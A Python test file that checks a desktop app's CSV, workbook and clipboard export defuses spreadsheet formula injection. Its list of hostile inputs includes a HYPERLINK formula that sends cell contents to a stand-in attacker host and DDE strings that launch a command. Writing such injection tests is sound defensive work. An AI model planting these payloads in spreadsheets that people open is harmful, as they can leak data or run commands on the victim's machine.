"""What a distributor writes into a cell runs nowhere: not from CSV, not from a workbook, not from the clipboard."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop.widgets.table_export import csv_text, pasted_text, write_csv, write_xlsx
from tests.architecture.sources import modules

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Trianon")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 20 7946 0000",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "http://evil.example/",
)
HARMLESS = ("-4", "+12.5", "1354.08", "Trianon", "")
MAY_WRITE_TABLES = {"desktop/widgets/table_export.py", "desktop/demo/sample_files.py"}


def test_a_workbook_shows_every_text_and_holds_no_formula_and_no_link(tmp_path: Path) -> None:
    file = tmp_path / "report.xlsx"
    write_xlsx(file, "Report", ["Item", "Yards"], [[text, 3] for text in (*HOSTILE, *HARMLESS)])
    with zipfile.ZipFile(file) as parts:
        assert not [name for name in parts.namelist() if "externalLink" in name or "hyperlink" in name.lower()]
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    shown = load_workbook(file).worksheets[0]
    rows = list(shown.iter_rows(min_row=2))
    # A carriage return is a line break in a workbook's XML; nothing else of a text changes.
    assert [str(row[0].value or "").replace("_x000D_", "\r").replace("\n", "\r") for row in rows] == [
        *HOSTILE,
        *HARMLESS,
    ]
    assert {row[0].data_type for row in rows} <= {"s", "n"}
    assert [row[1].value for row in rows] == [3] * len(rows)


def test_a_csv_file_defuses_what_runs_and_leaves_numbers_alone(tmp_path: Path) -> None:
    file = tmp_path / "report.csv"
    write_csv(file, ["Item"], [[text] for text in (*HOSTILE, *HARMLESS)])
    (_, *rows) = list(csv.reader(io.StringIO(file.read_bytes().decode("utf-8-sig"), newline="")))
    cells = [row[0] if row else "" for row in rows]
    assert cells[: len(HOSTILE)] == [text if text.startswith("http") else f"'{text}" for text in HOSTILE]
    assert cells[len(HOSTILE) :] == list(HARMLESS)
    assert not [cell for cell in cells if re.match(r"[=@\t\r]", cell)]


def test_what_is_pasted_stays_in_its_cell() -> None:
    assert pasted_text([["a\tb", "c\r\nd"]]) == "a b\tc d"
    assert csv_text(["Item"], [["a,b\nc"]]) == 'Item\r\n"a,b\nc"\r\n'


@pytest.mark.parametrize("library", ["xlsxwriter", "csv.writer(", "openpyxl.Workbook"])
def test_every_table_that_a_person_opens_is_written_in_one_place(library: str) -> None:
    """The demonstration makes the files that distributors post: machines read them, and they stay as they are."""
    places = {module.path for module in modules("desktop") if library in module.text}
    assert places <= MAY_WRITE_TABLES, places
